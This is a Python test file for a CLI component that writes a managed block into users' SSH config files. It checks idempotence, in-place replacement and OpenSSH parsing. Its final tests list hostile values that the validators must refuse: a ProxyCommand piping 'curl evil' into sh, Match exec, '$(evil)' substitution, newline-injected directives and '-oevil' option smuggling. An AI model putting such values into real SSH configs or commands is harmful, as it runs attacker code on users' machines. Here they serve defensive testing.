"""The marked block: written once, replaced in place, never touching its neighbours."""

import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coder_cli.commands.connections.sshconfig import (
    Block,
    Broken,
    deployment_options,
    host_part,
    parse_options,
    previous_options,
    with_block,
)
from coder_cli.kit.refused import Refused


def block(**changes: object) -> Block:
    values: dict[str, object] = {
        "binary": "/usr/local/bin/coder",
        "config_dir": "/home/me/.config/coderv2",
        "prefix": "coder.",
        "suffix": "coder",
    }
    return Block(**{**values, **changes})  # pyright: ignore[reportArgumentType]


TEXT = block().text()


@given(st.text(alphabet=st.characters(blacklist_characters="\r#", codec="utf-8")))
def test_writing_twice_is_writing_once(neighbours: str) -> None:
    once = with_block(neighbours, TEXT)
    assert with_block(once, TEXT) == once
    assert once.startswith(neighbours)


def test_the_block_is_replaced_in_place() -> None:
    old = with_block("Host a\n", TEXT) + "Host z\n"
    new = with_block(old, block(prefix="dev.").text())
    assert new.startswith("Host a\n")
    assert new.endswith("Host z\n")
    assert "Host dev.*" in new
    assert "Host coder.*" not in new


@pytest.mark.parametrize("cut", ["START", "END"])
def test_half_a_block_is_refused(cut: str) -> None:
    lines = [line for line in TEXT.splitlines(keepends=True) if cut not in line]
    with pytest.raises(Broken):
        with_block("".join(lines), TEXT)


def test_options_are_remembered_and_win_over_defaults() -> None:
    chosen = parse_options(["ForwardAgent=yes", "loglevel DEBUG"])
    text = block(options=chosen, chosen=chosen).text()
    assert previous_options(text) == chosen
    assert "\tForwardAgent yes\n" in text
    assert "\tLogLevel DEBUG\n" in text
    assert "LogLevel ERROR" not in text


@pytest.mark.parametrize("option", ["ProxyCommand=x", "match=all", "nonsense", "A=b\nHost *"])
def test_options_that_run_programs_are_refused(option: str) -> None:
    with pytest.raises(Refused):
        parse_options([option])


def test_openssh_understands_it(tmp_path: Path) -> None:
    file = tmp_path / "config"
    file.write_text(with_block("Host other\n  User x\n", block(binary="/opt/a b/coder").text()))
    for host in ("coder.dev", "dev.coder"):
        asked = ["ssh", "-F", str(file), "-G", host]
        shown = subprocess.run(asked, capture_output=True, text=True, check=True).stdout
        assert "stricthostkeychecking false" in shown
        assert '"/opt/a b/coder" --global-config /home/me/.config/coderv2 ssh --stdio' in shown


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("ProxyCommand", "sh -c 'curl evil | sh'"),
        ("proxycommand", "evil"),
        ("Match", "exec evil"),
        ("LocalCommand", "evil"),
        ("UserKnownHostsFile", "~/.profile"),
        ("HostKeyAlias", "$(evil)"),
        ("LogLevel", "ERROR\n\tProxyCommand evil"),
        ("LogLevel", "ERROR\r\tProxyCommand evil"),
        ("LogLevel ERROR\nProxyCommand", "evil"),
        ("ProxyCommand evil", ""),
    ],
)
def test_a_hostile_deployment_cannot_have_ssh_run_programs(key: str, value: str) -> None:
    with pytest.raises(Refused, match="not its to set"):
        deployment_options({key: value})
    assert deployment_options({"ServerAliveInterval": "15"}) == {"ServerAliveInterval": "15"}


@pytest.mark.parametrize("part", ["x; evil", "$(evil)", "x *", "*", "a\nHost *", "-oevil", "a'b"])
def test_a_hostile_deployment_cannot_choose_other_hosts_or_commands(part: str) -> None:
    with pytest.raises(Refused, match="host names"):
        host_part(part)
    assert (host_part("coder."), host_part("")) == ("coder.", "")
